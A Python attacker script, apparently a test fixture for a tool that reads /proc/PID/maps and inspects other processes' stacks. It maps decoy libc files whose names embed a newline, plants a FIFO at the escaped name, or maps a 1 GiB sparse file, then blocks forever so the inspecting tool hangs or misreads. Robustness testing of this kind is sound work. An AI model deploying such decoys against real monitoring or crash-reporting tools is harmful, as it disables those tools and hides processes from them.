"""Attacker (run as an unprivileged user): maps files chosen to hurt whoever opens them
by the names /proc/PID/maps prints, then blocks in a pipe write that nothing drains, so
its thread is stuck and gets its stack searched for libc's `exit`.

    hostile_maps.py DIR fifo    maps DIR/libc.so.6<newline>X while a FIFO sits at
                                DIR/libc.so.6\\012X, the name maps prints for it
    hostile_maps.py DIR sparse  maps a 1 GiB sparse file DIR/sparse/libc.so.6

Prints READY pid=P on stderr.
"""
import ctypes
import os
import sys

directory, mode = sys.argv[1], sys.argv[2]
libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int,
                      ctypes.c_int, ctypes.c_long]
PROT_READ, MAP_SHARED = 1, 1


def map_file(path):
    """Maps the file's first page low in the address space, below the real libc, so it
    is the first mapping named like libc in maps."""
    fd = os.open(path, os.O_RDONLY)
    address = libc.mmap(0x10000000, 4096, PROT_READ, MAP_SHARED, fd, 0)
    if address in (None, ctypes.c_void_p(-1).value):
        sys.exit(f"mmap failed: {os.strerror(ctypes.get_errno())}")


if mode == "fifo":
    os.mkfifo(os.path.join(directory, "libc.so.6\\012X"))
    decoy = os.path.join(directory, "libc.so.6\nX")
    with open(decoy, "wb") as f:
        f.write(b"\x7fELF" + bytes(8188))
    map_file(decoy)
else:
    os.mkdir(os.path.join(directory, "sparse"))
    decoy = os.path.join(directory, "sparse", "libc.so.6")
    with open(decoy, "wb") as f:
        f.truncate(1 << 30)
    map_file(decoy)

read_end, write_end = os.pipe()
os.write(2, f"READY pid={os.getpid()}\n".encode())
os.write(write_end, b"x" * (1 << 20))
